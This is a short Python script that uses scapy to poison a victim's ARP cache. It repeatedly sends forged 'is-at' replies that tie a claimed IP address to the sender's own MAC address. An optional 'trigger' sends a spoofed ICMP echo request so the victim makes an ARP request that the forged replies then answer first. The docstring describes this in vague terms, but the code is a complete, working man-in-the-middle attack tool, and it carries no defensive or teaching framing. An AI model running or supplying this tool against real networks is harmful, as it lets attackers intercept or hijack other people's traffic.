"""Answers a resolution before the host that was asked does, again and again for a while.

Arguments: interface, own hardware address, the victim's hardware and protocol address, the claimed protocol address, seconds,
and "trigger" to make the victim ask in the first place by an echo request in the claimed host's name.
"""
import sys
import time

from scapy.all import ARP, ICMP, IP, Ether, conf

conf.verb = 0
interface, own, victim_mac, victim_ip, claimed, seconds = sys.argv[1:7]
answer = bytes(Ether(src=own, dst=victim_mac) / ARP(op="is-at", hwsrc=own, psrc=claimed, hwdst=victim_mac, pdst=victim_ip))
socket = conf.L2socket(iface=interface)
if "trigger" in sys.argv[7:]:
    socket.send(Ether(src=own, dst=victim_mac) / IP(src=claimed, dst=victim_ip) / ICMP())
end = time.monotonic() + float(seconds)
while time.monotonic() < end:
    socket.send(answer)
    time.sleep(0.01)
